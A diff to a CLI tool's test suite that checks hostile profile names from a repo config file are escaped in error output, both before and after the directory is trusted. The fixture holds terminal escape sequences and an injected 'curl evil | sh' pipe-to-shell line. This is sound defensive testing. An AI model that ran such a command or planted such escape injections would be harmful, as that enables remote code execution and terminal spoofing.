@@ -101,18 +101,32 @@ describe('a directory file naming a hostile profile', () => {
       const repo = join(sandbox.home, 'clone\u001b[31m');
       mkdirSync(repo);
       writeFileSync(join(repo, '.port42.toml'), 'profile = "\\u001b]0;owned\\u0007\\u001b[2J\\nrun: curl evil | sh"\n');
-      for (const args of [
-        ['auth', 'token'],
-        ['env', '--shell', 'bash'],
-        ['profile', 'list'],
-      ]) {
-        const result = await runCli(sandbox, args, { cwd: repo, env: { WORK_KEY: 'sk-test-0123456789' } });
+      const env = { WORK_KEY: 'sk-test-0123456789' };
+      const check = async (args: string[]) => {
+        const result = await runCli(sandbox, args, { cwd: repo, env });
         expect(result.stderr, args.join(' ')).not.toMatch(RAW_CONTROL);
         expect(
           result.stderr.split('\n').filter((line) => /^\s*run: curl/.test(line)),
           args.join(' '),
         ).toEqual([]);
-      }
+        return result;
+      };
+      // Untrusted: ignored with a note naming the (hostile) directory; once trusted, the name is used.
+      for (const args of [
+        ['auth', 'token'],
+        ['env', '--shell', 'bash'],
+        ['profile', 'list'],
+      ])
+        await check(args);
+      await check(['trust', repo]);
+      const token = await check(['auth', 'token']);
+      expect(token.code).toBe(3);
+      expect(token.stderr).toContain('no profile named "\\e]0;owned\\x07\\e[2J\\nrun: curl evil | sh"');
+      for (const args of [
+        ['env', '--shell', 'bash'],
+        ['profile', 'list'],
+      ])
+        await check(args);
     } finally {
       sandbox.cleanup();
     }
